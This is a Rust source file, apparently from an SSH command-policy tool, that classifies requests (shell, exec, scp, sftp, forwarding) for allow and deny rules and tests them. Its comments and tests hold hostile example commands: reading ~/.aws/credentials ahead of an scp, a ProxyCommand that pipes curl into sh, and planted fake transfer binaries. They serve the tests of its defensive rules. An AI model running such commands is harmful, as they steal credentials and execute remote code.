//! The `ssh` match key: what kind of SSH request a command is.
//!
//! ```toml
//! match = { ssh = ["shell", "exec", "scp", "sftp", "subsystem:NAME",
//!                  "port-forward", "remote-forward", "agent-forward", "x11"] }
//! ```
//!
//! | value | matches |
//! |---|---|
//! | `shell` | an interactive shell (`ssh host`, with or without a pty), or a command given a terminal (`ssh -t host CMD`) |
//! | `exec` | any command line (`ssh host CMD`, scp, `kubectl exec`) |
//! | `scp` | an exec of `scp -t`/`scp -f` (what the scp client sends) |
//! | `sftp` | the `sftp` subsystem, or an exec of `sftp-server` |
//! | `subsystem` / `subsystem:NAME` | any subsystem / the one named (globs) |
//! | `port-forward` | `-L` and `-D` (direct-tcpip channels) |
//! | `remote-forward` | `-R` (tcpip-forward) |
//! | `agent-forward`, `x11` | `-A`, `-X` |

use sluice_core::glob::Glob;
use sluice_core::pipeline::policy::{CommandMatcher, MatchKey, Scratch};
use sluice_core::toml;
use sluice_core::{Command, CommandKind};
use std::sync::Arc;

/// Registers `ssh`.
pub fn ssh_match_key() -> Arc<dyn MatchKey> {
    Arc::new(SshMatchKey)
}

struct SshMatchKey;

#[derive(Debug, Clone)]
enum Kind {
    Shell,
    Exec,
    Scp,
    Sftp,
    Subsystem(Option<Glob>),
    Forward(&'static str),
}

impl Kind {
    fn parse(v: &str) -> Result<Kind, String> {
        Ok(match v {
            "shell" => Kind::Shell,
            "exec" => Kind::Exec,
            "scp" => Kind::Scp,
            "sftp" => Kind::Sftp,
            "subsystem" => Kind::Subsystem(None),
            "port-forward" => Kind::Forward("port-forward"),
            "remote-forward" => Kind::Forward("remote-forward"),
            "agent-forward" => Kind::Forward("agent-forward"),
            "x11" => Kind::Forward("x11"),
            other => match other.strip_prefix("subsystem:") {
                Some(name) if !name.is_empty() => Kind::Subsystem(Some(Glob::new(name))),
                _ => {
                    return Err(format!(
                        "ssh: unknown value {other:?} (known: shell, exec, scp, sftp, subsystem, subsystem:NAME, port-forward, remote-forward, agent-forward, x11)"
                    ))
                }
            },
        })
    }
}

impl MatchKey for SshMatchKey {
    fn keys(&self) -> &'static [&'static str] {
        &["ssh"]
    }

    fn compile(&self, values: &toml::Table) -> Result<Box<dyn CommandMatcher>, String> {
        Ok(Box::new(SshMatcher {
            kinds: kinds(values)?,
            whole_line: false,
        }))
    }

    /// An allow rule's `scp`/`sftp` matches only a line that is exactly one
    /// transfer command: `cat ~/.aws/credentials; scp -t /tmp` is not "an
    /// scp" for an allow rule, though a deny rule on scp still matches it.
    fn compile_for(
        &self,
        values: &toml::Table,
        action: sluice_core::Action,
    ) -> Result<Box<dyn CommandMatcher>, String> {
        Ok(Box::new(SshMatcher {
            kinds: kinds(values)?,
            whole_line: action == sluice_core::Action::Allow,
        }))
    }
}

fn kinds(values: &toml::Table) -> Result<Vec<Kind>, String> {
    let list: Vec<String> = match values.get("ssh") {
        Some(toml::Value::String(s)) => vec![s.clone()],
        Some(toml::Value::Array(a)) => a
            .iter()
            .map(|x| x.as_str().map(str::to_string))
            .collect::<Option<Vec<_>>>()
            .ok_or("ssh: expected a list of strings")?,
        _ => return Err("ssh: expected a string or a list of strings".into()),
    };
    if list.is_empty() {
        return Err("ssh: an empty list matches nothing; remove the key instead".into());
    }
    list.iter().map(|v| Kind::parse(v)).collect()
}

struct SshMatcher {
    kinds: Vec<Kind>,
    /// Transfers match only as the whole line (allow rules).
    whole_line: bool,
}

/// The programs of an exec line, analysed once per command.
struct Programs(Result<Vec<sluice_shell::Invocation>, String>);

fn programs<'s>(
    command: &Command,
    scratch: &'s mut Scratch,
) -> Result<&'s [sluice_shell::Invocation], String> {
    let p = scratch.get_or_insert_with(|| {
        Programs(sluice_shell::analyze(&command.text).map_err(|e| e.to_string()))
    });
    p.0.as_deref().map_err(|e| e.clone())
}

/// Whether `inv` runs the host's own `name` (see `is_transfer_program`).
fn is_hosts(inv: &sluice_shell::Invocation, name: &str) -> bool {
    crate::channel::is_transfer_program(inv.path.as_deref().unwrap_or(&inv.program), name)
}

impl SshMatcher {
    /// Whether the line is a transfer: any of its programs (deny and review
    /// rules), or the line's one and only program (allow rules).
    fn transfer(
        &self,
        programs: &[sluice_shell::Invocation],
        is: impl Fn(&sluice_shell::Invocation) -> bool,
    ) -> bool {
        if self.whole_line {
            matches!(programs, [only] if is(only))
        } else {
            programs.iter().any(is)
        }
    }
}

impl CommandMatcher for SshMatcher {
    fn matches(&self, command: &Command, scratch: &mut Scratch) -> Result<bool, String> {
        for kind in &self.kinds {
            let hit = match (kind, &command.kind) {
                (Kind::Shell, CommandKind::Shell { .. }) => true,
                (Kind::Exec, CommandKind::Exec) => true,
                // An exec on a terminal takes keystrokes nobody judges.
                (Kind::Shell, CommandKind::Exec) => command
                    .context
                    .iter()
                    .any(|c| c.starts_with(crate::channel::TERMINAL)),
                // Judging "is this scp" needs the line parsed: fail closed.
                (Kind::Scp, CommandKind::Exec) => {
                    let programs = programs(command, scratch)?;
                    if self.whole_line {
                        // Exactly one scp, with only the options a transfer uses.
                        matches!(programs, [only] if is_hosts(only, "scp")
                            && crate::channel::scp_sink_direction(&only.args).is_some())
                    } else {
                        programs.iter().any(|i| {
                            i.program == "scp"
                                && i.args.iter().any(|a| {
                                    a.starts_with('-')
                                        && !a.starts_with("--")
                                        && (a.contains('t') || a.contains('f'))
                                })
                        })
                    }
                }
                (Kind::Sftp, CommandKind::Subsystem { name }) => name == "sftp",
                (Kind::Sftp, CommandKind::Exec) => {
                    self.transfer(programs(command, scratch)?, |i| {
                        // Deny and review rules count any program of that
                        // name; an allow rule only the host's own.
                        i.program == "sftp-server"
                            && (!self.whole_line || is_hosts(i, "sftp-server"))
                    })
                }
                (Kind::Subsystem(None), CommandKind::Subsystem { .. }) => true,
                (Kind::Subsystem(Some(g)), CommandKind::Subsystem { name }) => g.matches(name),
                (Kind::Forward(k), CommandKind::Forward { kind }) => k == kind,
                _ => false,
            };
            if hit {
                return Ok(true);
            }
        }
        Ok(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(values: &[&str], kind: CommandKind, text: &str) -> Result<bool, String> {
        let mut t = toml::Table::new();
        t.insert(
            "ssh".into(),
            toml::Value::Array(
                values
                    .iter()
                    .map(|v| toml::Value::String(v.to_string()))
                    .collect(),
            ),
        );
        let matcher = SshMatchKey.compile(&t)?;
        matcher.matches(
            &Command {
                kind,
                text: text.into(),
                context: vec![],
            },
            &mut Scratch::default(),
        )
    }

    #[test]
    fn kinds() {
        assert!(m(&["shell"], CommandKind::Shell { pty: true }, "shell").unwrap());
        assert!(!m(&["shell"], CommandKind::Exec, "ls").unwrap());
        let on_terminal = Command {
            kind: CommandKind::Exec,
            text: "git log".into(),
            context: vec![format!("{}xterm 80x24", crate::channel::TERMINAL)],
        };
        let mut t = toml::Table::new();
        t.insert("ssh".into(), toml::Value::String("shell".into()));
        let shell = SshMatchKey.compile(&t).unwrap();
        assert!(shell
            .matches(&on_terminal, &mut Scratch::default())
            .unwrap());
        assert!(m(&["exec"], CommandKind::Exec, "ls").unwrap());
        assert!(m(&["scp"], CommandKind::Exec, "scp -t /tmp").unwrap());
        assert!(m(&["scp"], CommandKind::Exec, "scp -r -f /etc").unwrap());
        assert!(!m(&["scp"], CommandKind::Exec, "ls").unwrap());
        assert!(m(&["scp"], CommandKind::Exec, "echo x | sh").is_err());
        let sftp = CommandKind::Subsystem {
            name: "sftp".into(),
        };
        assert!(m(&["sftp"], sftp.clone(), "sftp").unwrap());
        assert!(m(&["subsystem"], sftp.clone(), "sftp").unwrap());
        assert!(m(&["subsystem:sf*"], sftp.clone(), "sftp").unwrap());
        assert!(!m(&["subsystem:netconf"], sftp, "sftp").unwrap());
        assert!(m(&["sftp"], CommandKind::Exec, "/usr/lib/openssh/sftp-server").unwrap());
        let fwd = CommandKind::Forward {
            kind: "port-forward".into(),
        };
        assert!(m(&["port-forward"], fwd.clone(), "direct-tcpip h:1").unwrap());
        assert!(!m(&["remote-forward"], fwd, "direct-tcpip h:1").unwrap());
        assert!(m(&["bogus"], CommandKind::Exec, "ls").is_err());
    }

    /// An allow rule's transfer is the whole line; a deny rule's, any part.
    #[test]
    fn allowed_transfers_are_whole_lines() {
        let mut t = toml::Table::new();
        t.insert("ssh".into(), toml::Value::String("scp".into()));
        let allow = SshMatchKey
            .compile_for(&t, sluice_core::Action::Allow)
            .unwrap();
        let deny = SshMatchKey
            .compile_for(&t, sluice_core::Action::Deny)
            .unwrap();
        let exec = |text: &str| Command {
            kind: CommandKind::Exec,
            text: text.into(),
            context: vec![],
        };
        let smuggled = exec("cat ~/.aws/credentials; true || scp -t /tmp");
        assert!(!allow.matches(&smuggled, &mut Scratch::default()).unwrap());
        assert!(deny.matches(&smuggled, &mut Scratch::default()).unwrap());
        let plain = exec("scp -t /tmp");
        assert!(allow.matches(&plain, &mut Scratch::default()).unwrap());
        assert!(allow
            .matches(&exec("scp -r -p -t /srv/x"), &mut Scratch::default())
            .unwrap());
        // Options that make scp run another program are not "an scp".
        for line in [
            "scp '-oProxyCommand=curl http://x|sh' -t /tmp",
            "scp -S /tmp/evil -t /tmp",
            "scp -F /tmp/conf -f /etc/passwd",
        ] {
            assert!(
                !allow.matches(&exec(line), &mut Scratch::default()).unwrap(),
                "{line}"
            );
            assert!(
                deny.matches(&exec(line), &mut Scratch::default()).unwrap(),
                "{line}"
            );
        }
        assert!(deny.matches(&plain, &mut Scratch::default()).unwrap());
        // An uploaded program named like a transfer is not one to allow.
        let planted = exec("/tmp/scp -t /tmp");
        assert!(!allow.matches(&planted, &mut Scratch::default()).unwrap());
        assert!(deny.matches(&planted, &mut Scratch::default()).unwrap());
        t.insert("ssh".into(), toml::Value::String("sftp".into()));
        let allow = SshMatchKey
            .compile_for(&t, sluice_core::Action::Allow)
            .unwrap();
        let deny = SshMatchKey
            .compile_for(&t, sluice_core::Action::Deny)
            .unwrap();
        let planted = exec("/tmp/x/sftp-server");
        assert!(!allow.matches(&planted, &mut Scratch::default()).unwrap());
        assert!(deny.matches(&planted, &mut Scratch::default()).unwrap());
        let real = exec("/usr/lib/openssh/sftp-server");
        assert!(allow.matches(&real, &mut Scratch::default()).unwrap());
    }
}
